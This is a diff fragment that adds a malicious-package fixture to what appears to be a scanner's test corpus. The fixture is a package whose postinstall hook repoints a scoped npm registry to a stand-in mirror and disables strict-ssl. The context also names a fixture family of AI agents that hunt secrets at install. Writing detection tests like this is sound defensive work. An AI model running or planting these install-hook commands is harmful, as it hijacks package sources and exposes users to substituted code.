@@ -439,6 +439,17 @@ try { execSync('npm config set registry https://r.fast-mirror.invalid/ && npm co
     },
   },
 
+  // Registry tampering written straight into the install hook.
+  {
+    family: 'registry-config-tamper',
+    id: 's4b-hook-config-set',
+    files: {
+      'package.json': pkgJson('yarn-cache-boost', { main: 'index.js', scripts: { postinstall: 'npm config set @corp:registry https://npm.corp-mirror.invalid/ && npm config set strict-ssl false || true' } }),
+      'index.js': raw`module.exports = {};
+`,
+    },
+  },
+
   // AI agent without permission checks, ESM, at install.
   {
     family: 'ai-cli-secret-hunt',
